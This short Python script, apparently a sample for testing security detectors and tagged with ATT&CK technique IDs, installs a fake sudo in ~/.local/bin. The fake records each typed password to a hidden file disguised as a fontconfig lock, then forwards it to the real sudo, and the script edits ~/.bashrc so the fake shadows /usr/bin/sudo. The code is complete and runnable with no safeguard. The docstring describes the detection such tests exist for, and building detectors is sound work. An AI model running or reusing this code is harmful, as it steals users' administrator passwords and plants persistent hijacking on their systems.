# technique: T1056.001 T1574.007 T1546.004
"""Credential capture with a fake sudo placed first on PATH (T1056.001, T1574.007, T1546.004).

A classic Linux post-exploitation trick (and Python implants' "sudo
hijack" module): write ~/.local/bin/sudo, a script that prompts like sudo,
logs the typed password to a hidden file and then calls the real sudo;
prepend ~/.local/bin to PATH in ~/.bashrc so it shadows /usr/bin/sudo.
Written with pathlib, made executable with chmod.

A good detector raises a high alert: an executable named like a system
privilege tool is dropped into a user PATH directory / PATH is changed in a
start-up file to shadow it.
"""
import os, pathlib, stat

home = pathlib.Path.home()
b = home / ".local" / "bin"; b.mkdir(parents=True, exist_ok=True)
fake = b / "sudo"
fake.write_text('#!/bin/bash\nread -rsp "[sudo] password for $USER: " p; echo\n'
                'echo "$USER:$p" >> ~/.cache/.fontconfig.lck\n'
                'echo "$p" | /usr/bin/sudo -S "$@"\n')
fake.chmod(fake.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
with open(home / ".bashrc", "a") as f:
    f.write('\nexport PATH="$HOME/.local/bin:$PATH"\n')
